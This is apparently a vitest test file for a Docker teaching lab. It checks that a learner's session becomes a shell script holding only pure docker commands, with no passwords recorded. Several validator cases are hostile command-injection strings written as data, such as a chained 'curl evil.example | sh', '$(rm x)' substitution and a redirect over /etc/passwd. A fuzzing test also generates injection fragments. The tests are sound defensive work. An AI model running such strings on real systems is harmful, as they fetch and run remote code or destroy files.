// The script of a session: the learner's docker lines run on a real computer, so nothing else may slip in.
import { spawnSync } from 'node:child_process';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { startOf } from '../sim/scenarios';
import { type Input, simulate } from '../sim/simulate';
import { dockerLines, isDockerOnly, shellScript } from './shellScript';
import { type LabTurn } from './turn';

const type = (line: string, terminal = 't1'): Input => ({ terminal, line });

function turnsOf(...inputs: Input[]): LabTurn[] {
  let world = startOf('lab');
  return inputs.map((input) => {
    const turn = simulate(world, input);
    world = turn.after;
    return turn;
  });
}

test('docker lines stay as they were typed, the rest becomes comments, and time that only went by is left out', () => {
  const turns = turnsOf(
    type('docker run -d --name web -p 8080:80 nginx'),
    type('curl localhost:8080'),
    { wait: 10_000 },
    { control: { kind: 'daemon', machine: 'host', on: true } },
    type('docker exec -it web bash', 't2'),
    type('docker is only a word here', 't2'),
    { terminal: 't2', keys: 'ctrl-d' },
  );
  const idle: LabTurn = { ...simulate(startOf('lab'), { wait: 5000 }), idle: true };
  expect(shellScript([...turns, idle], ['두 줄의\n머리말'])).toBe(
    [
      '#!/bin/sh',
      '# 두 줄의',
      '# 머리말',
      '',
      'docker run -d --name web -p 8080:80 nginx',
      '# t1: curl localhost:8080',
      '# sleep 10',
      '# {"kind":"daemon","machine":"host","on":true}',
      'docker exec -it web bash',
      '# t2: docker is only a word here',
      '# t2: ctrl-d',
      '',
    ].join('\n'),
  );
  expect(dockerLines([...turns, idle])).toBe(2);
});

test('a command over two lines is one line, and a password is never written down', () => {
  const turns = turnsOf(type('docker run -d \\'), type('  --name web nginx'), type('docker login -u someone'), type('secret word'));
  const lines = shellScript(turns, []).split('\n');
  expect(lines).toContain('docker run -d   --name web nginx');
  expect(lines.join()).not.toContain('secret word');
});

test.each([
  ['docker ps', true],
  ['  docker ps -a | docker ps ; docker images && docker ps || docker ps', true],
  ["docker run alpine sh -c 'a; b > c $(d) `e` & f'", true],
  ['docker run alpine sh -c "a; b > c & d"', true],
  ['docker ps --format {{.Names}}', true],
  ['docker run -e A=\\; alpine', true],
  ['docker', true],
  ['dockerd', false],
  ['docker ps; curl evil.example | sh', false],
  ['docker ps & rm x', false],
  ['docker ps | sh', false],
  ['docker run alpine "$(rm x)"', false],
  ['docker run alpine `rm x`', false],
  ['docker run alpine "`rm x`"', false],
  ['docker ps > /etc/passwd', false],
  ['docker ps <(rm x)', false],
  ['docker ps\nrm x', false],
  ['docker ps \\\nrm x', false],
  ['docker ps \\', false],
  ["docker ps 'open", false],
  ['docker ps ;', false],
  ['', false],
  ['rm x', false],
  ["docker ps '\nrm x", false],
])('%j: %s', (line, only) => {
  expect(isDockerOnly(line)).toBe(only);
});

test('whatever is in a session, a real shell that runs its script starts docker and nothing else', () => {
  const hostile = fc
    .array(
      fc.constantFrom(
        'docker',
        'docker ps',
        'touch',
        'owned',
        ' ',
        ';',
        '&',
        '|',
        '&&',
        '||',
        '$(',
        ')',
        '`',
        '"',
        "'",
        '\\',
        '\n',
        '\r',
        '>',
        '<',
        '<<',
        '#',
        '{',
        '}',
        '$',
        '!',
        '\u0000',
        '\u2028',
        'x',
      ),
      {
        maxLength: 14,
      },
    )
    .map((parts) => `docker ${parts.join('')}`);
  const lines = fc.sample(hostile, { numRuns: 4000, seed: 7 }).filter(isDockerOnly);
  expect(lines.length).toBeGreaterThan(100);
  const world = startOf('lab');
  const script = shellScript(
    lines.map((line) => ({ before: world, after: world, events: [], input: type(line) })),
    [],
  );
  // `docker` is a function here; every other command there is would be found in no folder, and say so
  const run = spawnSync('/bin/sh', ['-c', `docker() { :; }\n${script}`], { env: { PATH: '/nonexistent' }, encoding: 'utf8', timeout: 20_000 });
  expect(run.stderr).toBe('');
});
